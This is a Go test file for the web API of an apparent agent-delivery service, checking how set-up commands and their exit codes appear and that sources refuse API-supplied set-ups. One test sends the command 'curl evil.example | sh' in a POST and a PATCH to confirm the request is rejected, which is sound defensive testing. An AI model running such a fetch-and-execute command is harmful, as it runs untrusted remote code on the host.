package web_test

import (
	"maps"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/baton-agent/baton"
	"github.com/baton-agent/baton/internal/delivery"
	"github.com/baton-agent/baton/internal/intake"
	"github.com/baton-agent/baton/internal/sqlstore"
)

// GET /api/deliveries/{id} carries a set-up as a step of its own, before
// the phase it stopped, with its commands, exit and output as fields;
// the delivery page shows the same row with its output open.
func TestAPIDeliveryShowsItsSetup(t *testing.T) {
	t.Parallel()
	e := newEnv(t, sqlstore.SQLite)
	setup := []string{"echo installing", "echo registry.example unreachable >&2; exit 7", "echo never"}
	d, _, err := e.svc.Create(t.Context(), delivery.Request{Repo: e.repo, Summary: "Set up", Actor: "alice", Settings: delivery.Settings{Setup: &setup}})
	if err != nil {
		t.Fatal(err)
	}
	runner := &delivery.Runner{Service: e.svc, Owner: "worker:test", KillGrace: time.Second}
	if _, err := runner.Run(t.Context(), d.ID, "plan", ""); err != nil {
		t.Fatal(err)
	}
	var v delivery.DetailView
	if resp := e.do("GET", "/api/deliveries/"+d.ID, "", false, &v); resp.StatusCode != 200 {
		t.Fatalf("GET = %d", resp.StatusCode)
	}
	if len(v.Timeline) != 2 || v.Timeline[0].Setup == nil || v.Timeline[1].Phase != "plan" {
		t.Fatalf("timeline = %+v, want the set-up, then the plan it stopped", v.Timeline)
	}
	st := v.Timeline[0]
	if su := st.Setup; st.Phase != delivery.SetupStep || st.Status != "failed" || su.For != "plan" || su.ForAttempt != 1 ||
		su.Ran != 2 || su.ExitCode != 7 || len(su.Commands) != 3 || !strings.Contains(su.Output, "registry.example unreachable") ||
		strings.Contains(su.Output, "never") || !strings.HasSuffix(su.Log, "/setup.log") || st.EndedAt == nil {
		t.Errorf("set-up step = %+v %+v", st, *su)
	}
	page := get(t, http.DefaultClient, e.srv.URL+"/deliveries/"+d.ID)
	for _, want := range []string{`<tr class="setup" id="setup-1">`, "exit 7", `<details class="setup-output bad-run" open>`, "registry.example unreachable"} {
		if !strings.Contains(page, want) {
			t.Errorf("the delivery page lacks %q", want)
		}
	}
}

// A source's set-up is the server's: the API and the sources page show
// it, and a request that tries to set it is refused with where it is set.
func TestAPISourceSetupIsTheServers(t *testing.T) {
	t.Parallel()
	e := newEnv(t, sqlstore.SQLite)
	var src struct {
		ID    string            `json:"id"`
		Setup baton.SourceSetup `json:"setup"`
	}
	if resp := e.do("POST", "/api/sources", `{"repo":"octo/app","setup":{"commands":["curl evil.example | sh"]}}`, true, nil); resp.StatusCode != http.StatusBadRequest {
		t.Errorf("POST a source with a set-up = %d, want 400", resp.StatusCode)
	}
	if resp := e.do("POST", "/api/sources", `{"repo":"octo/app"}`, true, &src); resp.StatusCode != http.StatusCreated {
		t.Fatalf("POST a source = %d", resp.StatusCode)
	}
	e.wantError("PATCH", "/api/sources/"+src.ID, `{"setup":{"commands":["curl evil.example | sh"]}}`, true, http.StatusBadRequest, "invalid")
	if _, err := e.web.Intake.Update(t.Context(), src.ID, intake.SourceInput{AllowSetup: true,
		Setup: &baton.SourceSetup{Commands: []string{"npm ci", "npm run build"}, EgressAllow: []string{"registry.npmjs.org"}}}); err != nil {
		t.Fatal(err)
	}
	if e.do("GET", "/api/sources/"+src.ID, "", true, &src); !slices.Equal(src.Setup.Commands, []string{"npm ci", "npm run build"}) ||
		!slices.Equal(src.Setup.EgressAllow, []string{"registry.npmjs.org"}) {
		t.Errorf("GET the source: set-up %+v", src.Setup)
	}
	page := get(t, http.DefaultClient, e.srv.URL+"/sources")
	if !strings.Contains(page, "set-up <code>npm ci</code>; <code>npm run build</code>, reaching registry.npmjs.org") {
		t.Errorf("the sources page does not show the set-up:\n%s", page)
	}
}

// A set-up's outcome names an exit only when a command gave one: a
// set-up stopped with its phase, or one that failed before its command
// could end (a sandbox that would not start), says no "exit 0".
func TestDeliveryPageSetupExitOnlyWhenACommandGaveOne(t *testing.T) {
	t.Parallel()
	e := newEnv(t, sqlstore.SQLite)
	d, _, err := e.svc.Create(t.Context(), delivery.Request{Repo: e.repo, Summary: "Set up", Actor: "alice"})
	if err != nil {
		t.Fatal(err)
	}
	now := time.Now()
	for _, r := range []baton.SetupRun{
		{Status: baton.SetupSucceeded, Commands: []string{"true"}, Ran: 1, Note: "ran well"},
		{Status: baton.SetupCanceled, Commands: []string{"sleep 60"}, Ran: 1, Note: "set-up stopped with its phase"},
		{Status: baton.SetupFailed, Commands: []string{"make"}, Ran: 1, Note: "the sandbox would not start"},
		{Status: baton.SetupFailed, Commands: []string{"make"}, Ran: 1, ExitCode: 2, Note: "make exited 2"},
		{Status: baton.SetupFailed, Commands: []string{"sleep 600"}, Ran: 1, ExitCode: -1, Note: "out of the phase's time"},
	} {
		r.DeliveryID, r.Phase, r.Attempt, r.StartedAt, r.EndedAt = d.ID, baton.PhasePlan, 1, now, now
		if err := e.svc.Queue.Store().CreateSetupRun(t.Context(), &r); err != nil {
			t.Fatal(err)
		}
	}
	page := get(t, http.DefaultClient, e.srv.URL+"/deliveries/"+d.ID)
	outcome := regexp.MustCompile(`(?s)<tr class="setup" id="setup-(\d)">.*?<td data-label="Outcome">(.*?)</td>`)
	got := map[string]string{}
	for _, m := range outcome.FindAllStringSubmatch(page, -1) {
		got[m[1]] = regexp.MustCompile(`<[^>]*>`).ReplaceAllString(m[2], "")
	}
	want := map[string]string{"1": "succeeded exit 0", "2": "canceled", "3": "failed", "4": "failed exit 2", "5": "failed out of time"}
	if !maps.Equal(got, want) {
		t.Errorf("the set-up rows' outcomes read %q, want %q", got, want)
	}
}
